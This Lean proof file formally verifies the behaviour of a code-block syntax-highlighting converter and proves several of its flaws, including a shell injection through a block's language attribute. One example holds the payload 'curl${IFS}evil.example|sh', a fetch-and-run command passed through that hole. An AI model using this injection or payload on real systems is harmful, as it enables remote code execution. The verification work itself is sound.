/-
Code blocks given to a tool (C188 - C191).
-/
import Verif.Proof.CodeColor

namespace Verif.CodeColor
open Spec

/-! ### C188: only code blocks change -/

/-- C188: a tool that is not found, or not known, changes nothing and is not run. -/
theorem C188_missing (run : Bytes → Bytes → Option Bytes) (there : Bool) (tool : Bytes) (numbers only ansi : Bool) (html : Bytes)
    (h : there = false ∨ tool ∉ [b!"pygments", b!"skylighting", b!"shiki"]) : convert run there tool numbers only ansi html = .val ⟨html, []⟩ := by
  unfold convert
  rw [if_pos]
  rcases h with h | h
  · exact Or.inr h
  · left
    simp only [List.mem_cons, List.not_mem_nil, or_false, not_or] at h
    unfold binary
    rw [if_neg h.1, if_neg h.2.1, if_neg h.2.2]

/-- C188, for every page: a tool that fails, or writes nothing, changes nothing. -/
theorem C188_failing {run : Bytes → Bytes → Option Bytes} (hrun : ∀ line code, run line code = none ∨ run line code = some []) (there : Bool) (tool : Bytes) (numbers only ansi : Bool) (html : Bytes) :
    ∃ calls, convert run there tool numbers only ansi html = .val ⟨html, calls⟩ := by
  have hr : ∀ line code, ((run line code).getD []).takeWhile (· != 0) = [] := by
    intro line code
    rcases hrun line code with h | h <;> rw [h] <;> rfl
  unfold convert
  split
  · exact ⟨_, rfl⟩
  · have hp := pass_failing (fun lang => command tool lang numbers ansi) only hr html.length html (Nat.le_refl _)
    rw [go_fits _ _ _ _ _ _ _ _ (Nat.le_refl _) (by rw [hp]; simp only [List.length_nil]; omega), hp]
    exact ⟨_, rfl⟩

/-- The pages of C188 and C189. -/
theorem convert_pieces {run : Bytes → Bytes → Option Bytes} {tool t0 : Bytes} {numbers only ansi : Bool} {line : Bytes → Bytes} {ps : List Piece}
    (hline : ∀ lang, ∃ ws, Words numbers ansi tool lang ws ∧ line lang = join ws) (h0 : c!"<" ∉ t0) (h : ∀ p ∈ ps, p.Ok)
    (hfit : (t0 ++ page (answer run line) only ps).length < 3 * (t0 ++ plain ps).length + 1024 ∨ only = false ∧ ∀ k code, ∃ c t, run k code = some (c :: t) ∧ c ≠ 0) :
    convert run true tool numbers only ansi (t0 ++ plain ps) = .val ⟨t0 ++ page (answer run line) only ps, (given only ps).map fun p => (line p.1, p.2)⟩ := by
  have hcmd : ∀ lang, lang.length < 64 → command tool lang numbers ansi = some (line lang) := by
    intro lang hl
    obtain ⟨ws, h1, h2⟩ := hline lang
    rw [command_eq h1 hl, h2]
  have hbin : ¬ (binary tool = none ∨ true = false) := by
    obtain ⟨ws, h1, _⟩ := hline []
    cases h1 <;> decide
  have hp : pass run (fun lang => command tool lang numbers ansi) only (t0 ++ plain ps).length (t0 ++ plain ps) =
      (t0 ++ page (answer run line) only ps, (given only ps).map fun p => (line p.1, p.2)) := by
    rw [pass_text _ _ _ h0 _ _ (by simp), pass_pieces run _ line only hcmd ps _ h (by simp)]
  unfold convert
  rw [if_neg hbin]
  rcases hfit with hfit | ⟨rfl, hans⟩
  · rw [go_fits _ _ _ _ _ _ _ _ (Nat.le_refl _) (by rw [hp]; simp only [List.length_nil]; omega), hp]
    simp
  · rw [go_answered _ _ (fun lang hl => ⟨_, hcmd lang hl⟩) (fun k code => ?_) _ _ _ _ _ (Nat.le_refl _) (by omega) (Or.inl (by simp only [List.length_nil]; omega)), hp]
    · simp
    · obtain ⟨c, t, h1, h2⟩ := hans k code
      rw [h1, Option.getD_some, List.takeWhile_cons, if_pos (by simpa using h2)]
      simp

/-- C188 for pages of code blocks, as the renderer writes them, and other tags: a block given to the tool is replaced by what the tool answers, a block it does not answer for, and all else, stay - as long as the
page stays below three times its size and 1024 bytes.  Missing: longer pages, on which blocks may be lost (`C188_lost`); other attributes in the tags. -/
theorem C188_page_partial {run : Bytes → Bytes → Option Bytes} {tool t0 : Bytes} {numbers only ansi : Bool} {line : Bytes → Bytes} {ps : List Piece}
    (hline : ∀ lang, ∃ ws, Words numbers ansi tool lang ws ∧ line lang = join ws) (h0 : c!"<" ∉ t0) (h : ∀ p ∈ ps, p.Ok)
    (hfit : (t0 ++ page (answer run line) only ps).length < 3 * (t0 ++ plain ps).length + 1024) :
    ∃ calls, convert run true tool numbers only ansi (t0 ++ plain ps) = .val ⟨t0 ++ page (answer run line) only ps, calls⟩ :=
  ⟨_, convert_pieces hline h0 h (Or.inl hfit)⟩

/-- C188 for any length, when all blocks are given to the tool and it answers for all of them, whatever the language. -/
theorem C188_answered_partial {run : Bytes → Bytes → Option Bytes} {tool t0 : Bytes} {numbers ansi : Bool} {line : Bytes → Bytes} {ps : List Piece}
    (hline : ∀ lang, ∃ ws, Words numbers ansi tool lang ws ∧ line lang = join ws) (h0 : c!"<" ∉ t0) (h : ∀ p ∈ ps, p.Ok)
    (hans : ∀ k code, ∃ c t, run k code = some (c :: t) ∧ c ≠ 0) :
    ∃ calls, convert run true tool numbers false ansi (t0 ++ plain ps) = .val ⟨t0 ++ page (answer run line) false ps, calls⟩ :=
  ⟨_, convert_pieces hline h0 h (Or.inr ⟨rfl, hans⟩)⟩

/-- A tool that writes the code in capitals, and only if it is asked for Python. -/
def loud : Bytes → Bytes → Option Bytes := fun line code => if line = b!"pygmentize -l py -f html" then some (b!"<b>" ++ code ++ b!"</b>") else none

example : convert loud true b!"pygments" false false false b!"A <pre lang=\"py\"><code>1 &lt; 2</code></pre> B <pre><code>x &amp; y</code></pre> C" =
    .val ⟨b!"A <b>1 < 2</b> B <pre><code>x &amp; y</code></pre> C", [(b!"pygmentize -l py -f html", b!"1 < 2"), (b!"pygmentize -g -f html", b!"x & y")]⟩ := by decide +kernel

example : b!"A <pre lang=\"py\"><code>1 &lt; 2</code></pre> B <pre><code>x &amp; y</code></pre> C" = b!"A " ++ plain [.block (.pre b!"py") b!"1 < 2" b!" B ", .block .none b!"x & y" b!" C"] ∧
    (∀ p ∈ [Piece.block (.pre b!"py") b!"1 < 2" b!" B ", .block .none b!"x & y" b!" C"], p.Ok) ∧
    ∀ lang, ∃ ws, Words false false b!"pygments" lang ws ∧ (if lang = [] then b!"pygmentize -g -f html" else b!"pygmentize -l " ++ lang ++ b!" -f html") = join ws := by
  refine ⟨by decide, ?_, ?_⟩
  · intro p hp
    simp only [List.mem_cons, List.not_mem_nil, or_false] at hp
    rcases hp with rfl | rfl
    · exact ⟨⟨by decide, by decide⟩, by decide⟩
    · exact ⟨⟨by decide, by decide⟩, by decide⟩
  · intro lang
    refine ⟨_, .pygments, ?_⟩
    by_cases h : lang = []
    · subst h; rfl
    · rw [if_neg h, if_neg h]
      simp [join]

/-- A tool that writes 1070 bytes for `a` and nothing for anything else; one that writes 1100. -/
def big (n : Nat) : Bytes → Bytes → Option Bytes := fun _ code => if code = b!"a" then some (List.replicate n c!"x") else none

/-- C188 fails: a block behind a long answer is lost from the page. -/
theorem C188_lost : convert (big 1150) true b!"pygments" false false false b!"<pre><code>a</code></pre><pre><code>b</code></pre>" =
    .val ⟨List.replicate 1150 c!"x", [(b!"pygmentize -g -f html", b!"a"), (b!"pygmentize -g -f html", b!"b")]⟩ := by decide +kernel

/-- C188 fails: when the block that stays fits exactly, a byte is written behind the buffer. -/
theorem C188_overrun : convert (big 1149) true b!"pygments" false false false b!"<pre><code>a</code></pre><pre><code>b</code></pre>" = .ub := by decide +kernel

/-! ### C189: the tool gets the code and the language -/

/-- C189 for the same pages: the tool is run once for each block it is asked for, in their order, with the language of the block in its command and with the code as the author wrote it as input. -/
theorem C189_calls_partial {run : Bytes → Bytes → Option Bytes} {tool t0 : Bytes} {numbers only ansi : Bool} {line : Bytes → Bytes} {ps : List Piece}
    (hline : ∀ lang, ∃ ws, Words numbers ansi tool lang ws ∧ line lang = join ws) (h0 : c!"<" ∉ t0) (h : ∀ p ∈ ps, p.Ok)
    (hfit : (t0 ++ page (answer run line) only ps).length < 3 * (t0 ++ plain ps).length + 1024) :
    ∃ new, convert run true tool numbers only ansi (t0 ++ plain ps) = .val ⟨new, (given only ps).map fun p => (line p.1, p.2)⟩ :=
  ⟨_, convert_pieces hline h0 h (Or.inl hfit)⟩

/-- C189: whatever the code is, it is what comes out of its written form. -/
theorem C189_code (code : Bytes) : unescape (escape code).length (escape code) = code := unescape_escape code _ (Nat.le_refl _)

/-- C189 fails: a language of 64 bytes is not passed on. -/
theorem C189_long : convert (fun _ _ => none) true b!"pygments" false false false (b!"<pre lang=\"" ++ List.replicate 64 c!"a" ++ b!"\"><code>x</code></pre>") =
    .val ⟨b!"<pre lang=\"" ++ List.replicate 64 c!"a" ++ b!"\"><code>x</code></pre>", [(b!"pygmentize -g -f html", b!"x")]⟩ := by decide +kernel

/-! ### C190: no other command is run -/

theorem go_calls {run : Bytes → Bytes → Option Bytes} {cmd : Bytes → Option Bytes} {only : Bool} {P : Bytes → Prop} (hP : ∀ lang line, lang.length < 64 → cmd lang = some line → P line) :
    ∀ (n cap : Nat) (out : Bytes) (log : List (Bytes × Bytes)) (s : Bytes) (d : Done), (∀ p ∈ log, P p.1) → go run cmd only n cap out log s = .val d → ∀ p ∈ d.calls, P p.1 := by
  intro n
  induction n with
  | zero =>
    intro cap out log s d hlog h
    cases s with
    | nil =>
      rw [go] at h
      split at h
      · cases h; exact hlog
      · cases h
    | cons c t => rw [go] at h; cases h
  | succ n ih =>
    intro cap out log s d hlog h
    cases s with
    | nil =>
      rw [go] at h
      split at h
      · cases h; exact hlog
      · cases h
    | cons c t =>
      rw [go] at h
      have hodd : (if out.length < cap then go run cmd only n cap (out ++ [c]) log t else go run cmd only n cap out log t) = .val d → ∀ p ∈ d.calls, P p.1 := by
        intro h
        split at h <;> exact ih _ _ _ _ _ hlog h
      split at h
      · cases hh : heads (c :: t) with
        | none => rw [hh] at h; exact hodd h
        | some p =>
          obtain ⟨lang, tail⟩ := p
          rw [hh] at h
          simp only [] at h
          cases hf : Embed.find b!"</code></pre>" tail with
          | none => rw [hf] at h; exact hodd h
          | some q =>
            obtain ⟨content, rest⟩ := q
            rw [hf] at h
            simp only [] at h
            have hkept : ∀ {block : Bytes} {log'}, (∀ p ∈ log', P p.1) → (if block.length ≤ cap - out.length then go run cmd only n cap (out ++ block) log' rest else go run cmd only n cap out log' rest) = .val d → ∀ p ∈ d.calls, P p.1 := by
              intro block log' hl h
              split at h <;> exact ih _ _ _ _ _ hl h
            split at h
            · exact hkept hlog h
            · cases hc : cmd lang with
              | none => rw [hc] at h; exact hkept hlog h
              | some line =>
                rw [hc] at h
                simp only [] at h
                have hl' : ∀ p ∈ log ++ [(line, unescape content.length content)], P p.1 := by
                  intro p hp
                  rcases List.mem_append.1 hp with hp | hp
                  · exact hlog p hp
                  · rw [List.mem_singleton] at hp
                    rw [hp]
                    exact hP lang line (heads_some hh).2.2 hc
                split at h
                · exact hkept hl' h
                · split at h
                  · split at h
                    · exact ih _ _ _ _ _ hl' h
                    · cases h
                  · exact ih _ _ _ _ _ hl' h
      · split at h
        · exact ih _ _ _ _ _ hlog h
        · split at h
          · exact ih _ _ _ _ _ hlog h
          · cases h

/-- C190, for every page and every tool: what is run is the line of the tool with some language of less than 64 bytes in it; the line is complete. -/
theorem C190_lines_partial {run : Bytes → Bytes → Option Bytes} {there numbers only ansi : Bool} {tool html : Bytes} {d : Done} (h : convert run there tool numbers only ansi html = .val d) :
    ∀ p ∈ d.calls, ∃ lang ws, lang.length < 64 ∧ Words numbers ansi tool lang ws ∧ p.1 = join ws := by
  unfold convert at h
  split at h
  · cases h
    simp
  · rename_i hb
    refine go_calls (P := fun line => ∃ lang ws, lang.length < 64 ∧ Words numbers ansi tool lang ws ∧ line = join ws) ?_ _ _ _ _ _ _ (by simp) h
    intro lang line hl hc
    have hw : ∃ ws, Words numbers ansi tool lang ws := by
      simp only [not_or] at hb
      unfold binary at hb
      by_cases h1 : tool = b!"pygments"
      · subst h1; exact ⟨_, .pygments⟩
      · by_cases h2 : tool = b!"skylighting"
        · subst h2; exact ⟨_, .skylighting⟩
        · by_cases h3 : tool = b!"shiki"
          · subst h3; exact ⟨_, .shiki⟩
          · exfalso
            rw [if_neg h1, if_neg h2, if_neg h3] at hb
            exact hb.1 rfl
    obtain ⟨ws, hw⟩ := hw
    rw [command_eq hw hl] at hc
    exact ⟨lang, ws, hl, hw, (Option.some.inj hc).symm⟩

/-- C190: with languages without bytes of meaning for the shell, the line is one command, the tool with its words.  Missing: other languages, for which it is false. -/
theorem C190_simple_partial {numbers ansi : Bool} {tool lang : Bytes} {ws : List Bytes} (hw : Words numbers ansi tool lang ws) (hl : lang.length < 64) (hs : ∀ c ∈ lang, safe c = true) :
    ∃ line, command tool lang numbers ansi = some line ∧ Simple line ws := ⟨_, command_eq hw hl, rfl, words_plain hw hs⟩

example : (∀ c ∈ b!"objective-c++", safe c = true) ∧ command b!"pygments" b!"objective-c++" true false = some b!"pygmentize -l objective-c++ -f html -O linenos=1" := by decide +kernel

/-- The line for a language. -/
def line (lang : Bytes) : Bytes := if lang = [] then b!"pygmentize -g -f html" else b!"pygmentize -l " ++ lang ++ b!" -f html"

/-- C190 fails: any text of up to 60 bytes between two `;` in the language of a block is given to the shell as a command of its own. -/
theorem C190_injected (run : Bytes → Bytes → Option Bytes) {x : Bytes} (hx : ∀ c ∈ x, c ∉ b!"<>&\" ") (hl : x.length ≤ 60) (hr : run (b!"pygmentize -l a;" ++ x ++ b!"; -f html") b!"y" = none) :
    convert run true b!"pygments" false false false (b!"<pre lang=\"a;" ++ x ++ b!";\"><code>y</code></pre>") =
      .val ⟨b!"<pre lang=\"a;" ++ x ++ b!";\"><code>y</code></pre>", [(b!"pygmentize -l a;" ++ x ++ b!"; -f html", b!"y")]⟩ := by
  have e : b!"<pre lang=\"a;" ++ x ++ b!";\"><code>y</code></pre>" = [] ++ plain [.block (.pre (b!"a;" ++ x ++ b!";")) b!"y" []] := by
    simp [plain, Piece.bare, Style.tags, escape]
  have hline : ∀ lang, ∃ ws, Words false false b!"pygments" lang ws ∧ line lang = join ws := by
    intro lang
    refine ⟨_, .pygments, ?_⟩
    unfold line
    by_cases h : lang = []
    · subst h; rfl
    · rw [if_neg h, if_neg h]
      simp [join]
  have hok : ∀ p ∈ [Piece.block (.pre (b!"a;" ++ x ++ b!";")) b!"y" []], p.Ok := by
    intro p hp
    rw [List.mem_singleton] at hp
    subst hp
    refine ⟨⟨?_, ?_⟩, by simp⟩
    · simp only [Style.lang, List.length_append, List.length_cons, List.length_nil]
      omega
    · intro c hc
      simp only [Style.lang] at hc
      rcases List.mem_append.1 hc with hc | hc
      · rcases List.mem_append.1 hc with hc | hc
        · exact (by decide : ∀ c ∈ b!"a;", c ∉ b!"<>&\" ") c hc
        · exact hx c hc
      · exact (by decide : ∀ c ∈ b!";", c ∉ b!"<>&\" ") c hc
  have hans : answer run line (b!"a;" ++ x ++ b!";") b!"y" = [] := by
    unfold answer line
    rw [if_neg (by simp), show b!"pygmentize -l " ++ (b!"a;" ++ x ++ b!";") ++ b!" -f html" = b!"pygmentize -l a;" ++ x ++ b!"; -f html" by simp, hr]
    rfl
  have hpage : page (answer run line) false [.block (.pre (b!"a;" ++ x ++ b!";")) b!"y" []] =
      plain [.block (.pre (b!"a;" ++ x ++ b!";")) b!"y" []] := by
    simp only [page, plain, List.flatMap_cons, List.flatMap_nil, Piece.shown, Piece.bare]
    rw [if_neg]
    rintro ⟨_, h⟩
    exact h hans
  have := convert_pieces (run := run) (t0 := []) (only := false) hline (by simp) hok (Or.inl (by rw [hpage]; omega))
  rw [e, this, hpage]
  simp [given, asked, Style.lang, line]

example : ∀ c ∈ b!"curl${IFS}evil.example|sh", c ∉ b!"<>&\" " := by decide

/-! ### C191: colouring ends, with what the tool wrote -/

/-- C191: the answer is read as a whole, whatever its length and in whatever chunks, inside its block. -/
theorem C191_collected {chunks : List Bytes} (h : ∀ x ∈ chunks, x.length ≤ 4096) : collect 8192 [] chunks = .val chunks.flatten := by
  have := collect_all chunks 8192 [] h (by omega) (by simp)
  simpa using this

example : collect 8192 [] (List.replicate 5 (List.replicate 4096 c!"x")) = .val (List.replicate 5 (List.replicate 4096 c!"x")).flatten :=
  C191_collected fun x hx => by rw [(List.mem_replicate.1 hx).2, List.length_replicate]; exact Nat.le_refl _

/-- C191 for a tool that reads all of its input before it writes anything: in whatever order the two go on, apex is not killed, and both go on until apex is back with all the tool wrote, or nothing if the tool failed;
and this takes finitely many steps.  Missing: other tools, for which it is false. -/
theorem C191_whole_partial (f : Bytes → Bytes × Bool) (input : Bytes) {room : Nat} (hroom : 0 < room) :
    Ends (whole f) room (start (.inl []) input) ∧
    ∀ s, Reach (whole f) room (start (.inl []) input) s → s.phase ≠ .killed ∧
      ((∃ s', Step (whole f) room s s') ∨ s.phase = .back (if (f input).2 then some (f input).1 else none)) := by
  constructor
  · exact ends_at _ _ (.send (todo := input) (acc := []) (i := []) rfl)
  · intro s hs
    obtain ⟨m, hm⟩ := reach_at hs
    refine ⟨?_, progress hroom hm⟩
    cases hm <;> simp

/-- C191 fails: with a tool that writes while it reads, and code longer than both pipes, apex never comes back. -/
theorem C191_stuck {input : Bytes} {room : Nat} (hl : 2 * room + 2 ≤ input.length) {s : Sys (Option (Option Byte))} (h : Reach echo room (start none input) s) :
    ∃ t, s.phase = .writing t := by
  obtain ⟨t, _, h1, _⟩ := echo_reach hl h
  exact ⟨t, h1⟩

/-- C191 fails: a tool that ends without reading its input can end apex. -/
theorem C191_killed {input : Bytes} (h : input ≠ []) (room : Nat) : ∃ s, Reach quit room (start () input) s ∧ s.phase = .killed := by
  cases input with
  | nil => exact absurd rfl h
  | cons b t => exact ⟨_, .step (.step .refl (.exit rfl)) .pipe, rfl⟩

end Verif.CodeColor
